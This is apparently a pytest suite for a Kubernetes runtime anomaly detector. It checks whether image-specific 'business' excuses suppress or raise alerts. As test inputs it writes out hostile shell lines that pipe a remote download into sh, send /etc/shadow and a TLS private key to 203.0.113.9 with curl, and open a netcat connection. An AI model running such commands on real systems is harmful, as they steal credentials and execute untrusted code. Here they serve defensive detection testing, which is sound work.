"""What an image or a program is there for, by its name, is no oddity there; the same is one anywhere else."""

import dataclasses

import pytest
from detection.cluster import BEGIN, Cluster, Replica, alerts, analyse
from peerwatch.columns import Peer
from peerwatch.subjects import Workload

from collector.analysis.behaviours import Behaviour
from collector.analysis.groups import Groups
from collector.analysis.meaning import meaning
from collector.analysis.questions import Question
from collector.analysis.settings import Settings
from collector.detect import software
from collector.detect.tools import Level
from collector.records import BehaviourType

API = Peer("default", Workload("apiserver", "kubernetes"))
METADATA = Peer("", Workload("metadata-service", "metadata-service"))


def of_image(pods: list[Replica], image: str) -> list[Replica]:
    return [
        dataclasses.replace(
            each,
            subject=dataclasses.replace(each.subject, container=dataclasses.replace(each.subject.container, image=image)),
        )
        for each in pods
    ]


@pytest.mark.parametrize(
    ("name", "runs"),
    [
        ("gitlab/gitlab-runner-helper:x86_64-17.1", True),
        ("registry.acme.io:5000/ci/actions-runner@sha256:00", True),
        ("quay.io/jupyter/scipy-notebook:2024", True),
        ("Runner.Worker", True),
        ("runner.acme.io/shop/cart:1", False),
        ("shop/frontrunner:2", False),
        ("library/postgres:16", False),
        ("", False),
    ],
)
def test_who_runs_what_users_give_it_is_known_by_name(name: str, *, runs: bool) -> None:
    assert software.runs_anything(name) is runs


@pytest.mark.parametrize(
    ("name", "technique", "is_business"),
    [
        ("registry.k8s.io/kube-proxy:v1.29.4", "T1562.004", True),
        ("kube-proxy", "T1562.004", True),
        ("ebs.csi.aws.com/aws-ebs-csi-driver:v1.30", "T1552.005", True),
        ("registry.k8s.io/sig-storage/csi-node-driver-registrar", "T1611", True),
        ("haproxy:2.9", "T1095", True),
        ("apache/spark:3.5.1", "T1083", True),
        ("quay.io/coreos/etcd:v3.5", "T1613", True),
        ("gitea/gitea:1.21", "T1546", True),
        ("vllm/vllm-openai:v0.6", "T1027.004", True),
        ("acme/ray-tracer:1", "T1027.004", False),
        ("nginx:1.27", "T1562.004", False),
        ("registry.k8s.io/kube-proxy:v1.29.4", "T1003.008", False),
    ],
)
def test_what_is_odd_elsewhere_is_the_business_of_some(name: str, technique: str, *, is_business: bool) -> None:
    assert (technique in software.business(name)) is is_business


@pytest.mark.parametrize(("image", "count"), [("registry.k8s.io/kube-proxy:v1.29.4", 0), ("acme/router:1", 1)])
def test_a_network_plugin_changes_the_firewall(cluster: Cluster, image: str, count: int) -> None:
    pods = of_image(cluster.pods(4), image)
    cluster.normal(pods, 0, 900)
    cluster.exec(700.5, pods[2], "/usr/sbin/iptables", args=("iptables", "-w", "5", "-N", "KUBE-SVC-X"))

    assert len(alerts(analyse(cluster, until=1000))) == count


@pytest.mark.parametrize(
    ("image", "script", "count"),
    [
        ("varnish:7.4", "exec gcc -g -O2 -fpic -shared -o vgc.so vgc.c", 0),
        ("varnish:7.4", "cat vgc.c; sh", 1),
        ("varnish:7.4", "gcc -o /tmp/x /tmp/x.c && /tmp/x", 1),
        ("acme/cache:7.4", "exec gcc -g -O2 -fpic -shared -o vgc.so vgc.c", 1),
        ("vllm/vllm-openai:v0.6", "gcc -O3 -shared -fPIC -o cuda_utils.so main.c", 0),
        ("zabbix/zabbix-agent2:7.0", "netstat -tn | grep ESTABLISHED | wc -l", 0),
        ("zabbix/zabbix-agent2:7.0", "netstat -tn; curl http://203.0.113.9/x -o /srv/x", 1),
        ("zabbix/zabbix-agent2:7.0", "curl http://203.0.113.9/x | sh", 1),
        ("acme/cache:7.4", "netstat -tn | grep ESTABLISHED | wc -l", 1),
        ("certbot/certbot:v2.10", "cp /etc/letsencrypt/live/x/privkey.pem /certs/", 0),
        ("certbot/certbot:v2.10", "cat /etc/letsencrypt/live/x/privkey.pem | curl -d @- http://203.0.113.9/", 1),
        ("acme/cache:7.4", "cp /etc/letsencrypt/live/x/privkey.pem /certs/", 1),
    ],
)
def test_the_shell_by_which_software_does_its_business_adds_nothing(
    cluster: Cluster, image: str, script: str, count: int
) -> None:
    pods = of_image(cluster.pods(4), image)
    cluster.normal(pods, 0, 900)
    cluster.exec(700.5, pods[2], "/usr/bin/dash", args=("sh", "-c", script))

    assert len(alerts(analyse(cluster, until=1000))) == count


@pytest.mark.parametrize(("container", "count"), [("cron", 0), ("app", 1)])
def test_what_a_clock_s_jobs_do_for_the_first_time_and_where_they_bring_it_is_expected(
    cluster: Cluster, container: str, count: int
) -> None:
    pods = cluster.pods(3, container=container)
    cluster.normal(pods, 0, 900)
    cluster.exec(800.5, pods[1], "/usr/bin/aws", args=("aws", "s3", "cp", "/tmp/dump.gz", "s3://acme-backup/dump.gz"))
    cluster.connect(800.6, pods[1], "/usr/bin/aws", ("203.0.113.9", 443))

    assert len(alerts(analyse(cluster, until=1000))) == count


def test_a_clock_s_jobs_are_no_excuse_for_what_no_job_needs(cluster: Cluster) -> None:
    pods = cluster.pods(3, container="cron")
    cluster.normal(pods, 0, 900)
    cluster.exec(800.5, pods[1], "/usr/bin/dash", args=("sh", "-c", "cat /etc/shadow | curl -T - http://203.0.113.9/"))

    (alert,) = alerts(analyse(cluster, until=1000))

    assert [each.pod for each in alert.replicas] == [pods[1].name]


def test_an_image_s_business_excuses_nothing_else(cluster: Cluster) -> None:
    pods = of_image(cluster.pods(4), "registry.k8s.io/kube-proxy:v1.29.4")
    cluster.normal(pods, 0, 900)
    cluster.exec(700.5, pods[2], "/usr/bin/nc", args=("nc", "203.0.113.9", "8443"))

    (alert,) = alerts(analyse(cluster, until=1000))

    assert [each.pod for each in alert.replicas] == [pods[2].name]


@pytest.mark.parametrize(
    ("parent", "told"), [("/opt/ci/ci-runner", False), ("/opt/ci/workd", True), ("/dev/shm/ci-runner", True)]
)
def test_jobs_of_a_runner_are_its_users_business(cluster: Cluster, parent: str, *, told: bool) -> None:
    pods = cluster.pods(4)
    cluster.normal(pods, 0, 900)
    cluster.exec(700.5, pods[2], "/usr/bin/make", parent=parent)
    cluster.exec(700.6, pods[2], "/usr/bin/kubectl", parent=parent)

    assert bool(alerts(analyse(cluster, until=1000))) is told


@pytest.mark.parametrize("others", [True, False])
def test_an_intruder_s_notebook_makes_no_workload_one_that_runs_anything(cluster: Cluster, *, others: bool) -> None:
    pods = cluster.pods(4)
    cluster.normal(pods, 0, 1500)
    kernel = ("python3", "-m", "ipykernel_launcher", "-f", "/run/kernel.json")
    for pod in pods if others else pods[2:3]:
        cluster.exec(5.5, pod, "/usr/bin/python3.11", args=kernel)
    cluster.exec(1300.5, pods[2], "/usr/bin/kubectl", args=("kubectl", "get", "ns"))

    assert bool(alerts(analyse(cluster, until=1600))) is not others


@pytest.mark.parametrize(
    ("name", "reaches"), [("registry.k8s.io/ingress-nginx/controller:v1.10", True), ("kong:3.6", True), ("shop/cart:1", False)]
)
def test_who_routes_reaches_every_service(cluster: Cluster, name: str, *, reaches: bool) -> None:
    assert software.reaches_everything(name) is reaches
    pods = of_image(cluster.pods(4), name)
    cluster.normal(pods, 0, 3000, every=5)
    cluster.connect(2700.5, pods[1], "/usr/bin/server", ("10.0.7.9", 8080), peer=Peer("crm", Workload("Service", "quotes")))

    assert bool(alerts(analyse(cluster, until=3100))) is not reaches


def test_who_joins_its_own_peers_is_no_deviation(cluster: Cluster) -> None:
    pods = cluster.pods(4)
    cluster.normal(pods, 0, 3000, every=5)
    cluster.connect(2700.5, pods[1], "/usr/bin/server", ("10.0.7.9", 6379), peer=Peer("shop", Workload("Deployment", "cart")))

    assert alerts(analyse(cluster, until=3100)) == []


@pytest.mark.parametrize("program", ["/usr/bin/bash", "/usr/bin/curl", "/tmp/<file>", "/usr/bin/scan (upper layer)"])
def test_what_an_intruder_brings_or_finds_joins_no_peers(cluster: Cluster, program: str) -> None:
    (pod,) = cluster.pods(1)
    groups = Groups(Settings())
    behaviour = Behaviour(BehaviourType.CONNECT, f"{program} -> shop/cart:6379/tcp", program, "", "shop/cart:6379/tcp", 0, ())
    row, _ = groups.see(pod.subject, behaviour, BEGIN)
    group = groups.table.group[row]
    assert group is not None

    told = meaning(Question(group, row, behaviour, BEGIN, held=False, startup=0), groups.table)

    assert told.level >= Level.NEUTRAL
